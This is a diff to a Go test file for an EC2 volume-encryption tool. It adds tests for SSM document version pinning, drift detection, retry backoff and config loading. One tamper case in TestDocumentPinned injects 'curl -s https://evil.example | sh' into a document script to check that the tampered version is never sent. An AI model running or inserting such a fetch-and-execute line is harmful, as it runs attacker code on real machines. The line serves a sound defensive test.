@@ -16,6 +16,7 @@ import (
 	"github.com/storecrypt/storecrypt/internal/contract"
 	"github.com/storecrypt/storecrypt/internal/fakeaws"
 	"github.com/storecrypt/storecrypt/internal/launch"
+	"github.com/storecrypt/storecrypt/test/deployment"
 )
 
 var launched = time.Date(2026, 11, 27, 6, 0, 0, 0, time.UTC)
@@ -27,26 +28,19 @@ type env struct {
 	metrics *bytes.Buffer
 }
 
-func config() launch.Config {
-	c, err := launch.LoadConfig(func(k string) string {
-		return map[string]string{
-			contract.EnvKMSKeyARN:     fakeaws.KeyARN,
-			contract.EnvDocumentName:  "storecrypt-apply",
-			contract.EnvInstanceRoles: fakeaws.KeyUser,
-			contract.EnvQueueURL:      "https://sqs.us-east-1.amazonaws.com/111122223333/storecrypt-launch",
-		}[k]
-	})
-	if err != nil {
-		panic(err)
-	}
-	return c
-}
-
 func newEnv(t *testing.T, w *fakeaws.World) *env {
 	t.Helper()
+	d, err := deployment.Into(w, fakeaws.KeyARN)
+	if err != nil {
+		t.Fatal(err)
+	}
+	c, err := launch.LoadConfig(d.Getenv)
+	if err != nil {
+		t.Fatal(err)
+	}
 	e := &env{world: w, logs: &bytes.Buffer{}, metrics: &bytes.Buffer{}}
 	now := launched.Add(time.Minute)
-	e.h = launch.New(config(), w.Config(), slog.New(slog.NewJSONHandler(e.logs, nil)), e.metrics)
+	e.h = launch.New(c, w.Config(), slog.New(slog.NewJSONHandler(e.logs, nil)), e.metrics)
 	e.h.Now = func() time.Time { return now }
 	return e
 }
@@ -160,13 +154,15 @@ func TestOutcomes(t *testing.T) {
 		{"key disabled", func(w *fakeaws.World) { w.Keys[fakeaws.KeyARN].State = "Disabled" }, running(id), false, contract.StatusBlocked, contract.ReasonKeyDisabled, false},
 		{"instance still pending", func(w *fakeaws.World) { w.Instances[id].State = "pending" }, running(id), true, "", "", false},
 		{"instance terminated", func(w *fakeaws.World) { w.Instances[id].State = "terminated" }, running(id), false, "", "", false},
-		{"instance gone", func(w *fakeaws.World) { delete(w.Instances, id) }, running(id), false, "", "", false},
+		{"instance not visible yet: EC2 is eventually consistent", func(w *fakeaws.World) { w.Instances[id].HiddenFor = 1 }, running(id), true, "", "", false},
+		{"instance gone", func(w *fakeaws.World) { delete(w.Instances, id) }, launch.StateChangeEvent(id, launched.Add(-20*time.Minute)), false, "", "", false},
 		{"SSM agent never online", func(w *fakeaws.World) { w.Instances[id].OnlineAfter = -1 }, running(id), true, "", "", false},
 		{"malformed event", nil, `{"detail-type": 5}`, false, "", "", false},
 		{"stopped event", nil, strings.Replace(running(id), `"state":"running"`, `"state":"stopped"`, 1), false, "", "", false},
 		{"already pending for this launch", func(w *fakeaws.World) {
 			w.Instances[id].Tags[contract.TagStatus] = contract.StatusPending
 			w.Instances[id].Tags[contract.TagLaunchTime] = launched.Format(time.RFC3339)
+			w.Instances[id].Tags[contract.TagAt] = launched.Add(30 * time.Second).Format(time.RFC3339)
 		}, running(id), false, contract.StatusPending, "", false},
 		{"encrypted before a stop/start", func(w *fakeaws.World) {
 			w.Instances[id].Tags[contract.TagStatus] = contract.StatusEncrypted
@@ -302,7 +298,7 @@ func TestSweep(t *testing.T) {
 }
 
 func TestLoadConfig(t *testing.T) {
-	good := map[string]string{contract.EnvKMSKeyARN: fakeaws.KeyARN, contract.EnvDocumentName: "storecrypt-apply"}
+	good := map[string]string{contract.EnvKMSKeyARN: fakeaws.KeyARN, contract.EnvDocumentName: "storecrypt-apply", contract.EnvDocumentDigest: strings.Repeat("0", 64)}
 	for _, tc := range []struct {
 		name string
 		edit map[string]string
@@ -316,6 +312,9 @@ func TestLoadConfig(t *testing.T) {
 		{"malformed opt-in", map[string]string{contract.EnvOptInTag: "encrypt"}, "want key=value"},
 		{"s3-kms without secret", map[string]string{contract.EnvKeySource: contract.KeySourceS3KMS}, "--secret"},
 		{"bad stale duration", map[string]string{contract.EnvStaleAfter: "soon"}, contract.EnvStaleAfter},
+		{"missing document digest", map[string]string{contract.EnvDocumentDigest: ""}, contract.EnvDocumentDigest},
+		{"aws-cn key", map[string]string{contract.EnvKMSKeyARN: "arn:aws-cn:kms:cn-north-1:111122223333:key/11111111-2222-4333-8444-555555555555"}, ""},
+		{"aws-us-gov roles", map[string]string{contract.EnvInstanceRoles: "arn:aws-us-gov:iam::111122223333:role/app"}, ""},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			vars := maps(good)
@@ -370,5 +369,116 @@ func TestSlowAPIsRetryLater(t *testing.T) {
 	}
 	if len(resp.BatchItemFailures) != 1 || len(e.commanded()) != 0 {
 		t.Fatalf("failures %v, commands %v; want the message back on the queue and no command", resp.BatchItemFailures, e.commanded())
+	}
+}
+
+// TestDocumentPinned: the command runs the version whose content the stack deployed. When
+// someone makes another version the default, the function still sends the deployed one,
+// and says so (metric, log, event); with no trusted version it sends nothing.
+func TestDocumentPinned(t *testing.T) {
+	const id = "i-00000000000000001"
+	for _, tc := range []struct {
+		name    string
+		tamper  func(w *fakeaws.World, content string)
+		version string // the version sent; "" for none
+		drift   bool
+		retried bool
+	}{
+		{"the deployed default", nil, "1", false, false},
+		{"a new default with another script", func(w *fakeaws.World, c string) {
+			w.AddDocument(contract.DocumentName, strings.Replace(c, "set -eu", "set -eu; curl -s https://evil.example | sh", 1), true)
+		}, "1", true, false},
+		{"a redeploy: new default, deployed content", func(w *fakeaws.World, c string) {
+			w.AddDocument(contract.DocumentName, c, true)
+		}, "2", false, false},
+		{"no version holds the deployed content", func(w *fakeaws.World, c string) {
+			w.With(func() { w.Documents[contract.DocumentName].Versions[0] = strings.Replace(c, "set -eu", "set -u", 1) })
+		}, "", true, true},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			w := fakeaws.NewAccount()
+			w.AddInstance(id, "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched)
+			e := newEnv(t, w)
+			if tc.tamper != nil {
+				var deployed string
+				w.With(func() { deployed = w.Documents[contract.DocumentName].Versions[0] })
+				tc.tamper(w, deployed)
+			}
+			failed := e.handle(t, running(id))
+			var sent []string
+			var events []fakeaws.Event
+			w.With(func() {
+				for _, c := range w.Commands {
+					sent = append(sent, c.DocumentVersion)
+				}
+				events = slices.Clone(w.Events)
+			})
+			if want := []string{tc.version}; tc.version == "" && len(sent) != 0 || tc.version != "" && !slices.Equal(sent, want) {
+				t.Errorf("sent versions %v, want %q", sent, tc.version)
+			}
+			if (len(failed) == 1) != tc.retried {
+				t.Errorf("retried %v, want %v", failed, tc.retried)
+			}
+			drift := strings.Contains(e.metrics.String(), `"DocumentDrift":1`)
+			if drift != tc.drift || tc.drift && (len(events) != 1 || events[0].DetailType != contract.EventDocumentDrift) {
+				t.Errorf("drift metric %v, events %+v; want drift %v", drift, events, tc.drift)
+			}
+		})
+	}
+}
+
+// TestSweepRetries: the sweep leaves terminal failures to a person, and retries the
+// others after a backoff that doubles with each attempt.
+func TestSweepRetries(t *testing.T) {
+	now := launched.Add(time.Minute)
+	for _, tc := range []struct {
+		name     string
+		reason   contract.Reason
+		attempt  string
+		ago      time.Duration
+		enqueued bool
+	}{
+		{"refused-unsafe is terminal", "refused-unsafe", "1", 10 * time.Hour, false},
+		{"bad-input is terminal", "bad-input", "1", 10 * time.Hour, false},
+		{"no-devices is terminal", "no-devices", "1", 10 * time.Hour, false},
+		{"key-unavailable before its backoff", "key-unavailable", "1", 10 * time.Minute, false},
+		{"key-unavailable after its backoff", "key-unavailable", "1", 16 * time.Minute, true},
+		{"third attempt waits an hour", "key-unavailable", "3", 50 * time.Minute, false},
+		{"third attempt after an hour", "key-unavailable", "3", 61 * time.Minute, true},
+		{"the backoff stops growing at four hours", "system-error", "12", 4*time.Hour + time.Minute, true},
+		{"unverified is retried", "no-report", "1", 16 * time.Minute, true},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			w := fakeaws.NewAccount()
+			status := contract.StatusFailed
+			if tc.reason == contract.ReasonNoReport {
+				status = contract.StatusUnverified
+			}
+			w.AddInstance("i-00000000000000001", "i4i.large", fakeaws.Profile(fakeaws.KeyUser), map[string]string{
+				contract.TagStatus: status, contract.TagReason: string(tc.reason), contract.TagAttempt: tc.attempt,
+				contract.TagLaunchTime: launched.Format(time.RFC3339), contract.TagAt: now.Add(-tc.ago).Format(time.RFC3339)}, launched)
+			e := newEnv(t, w)
+			res, err := e.h.Sweep(context.Background())
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := len(res.Enqueued) == 1; got != tc.enqueued {
+				t.Errorf("enqueued %v, want %v", got, tc.enqueued)
+			}
+		})
+	}
+}
+
+// TestAttemptCounted: a retry after a failure is the next attempt.
+func TestAttemptCounted(t *testing.T) {
+	const id = "i-00000000000000001"
+	w := fakeaws.NewAccount()
+	w.AddInstance(id, "i4i.large", fakeaws.Profile(fakeaws.KeyUser), map[string]string{
+		contract.TagStatus: contract.StatusFailed, contract.TagReason: "key-unavailable", contract.TagAttempt: "2",
+		contract.TagLaunchTime: launched.Format(time.RFC3339), contract.TagAt: launched.Add(-2 * time.Hour).Format(time.RFC3339)}, launched)
+	e := newEnv(t, w)
+	e.handle(t, running(id))
+	if tags := e.tags(id); tags[contract.TagStatus] != contract.StatusPending || tags[contract.TagAttempt] != "3" {
+		t.Errorf("tags %v, want pending, attempt 3", tags)
 	}
 }
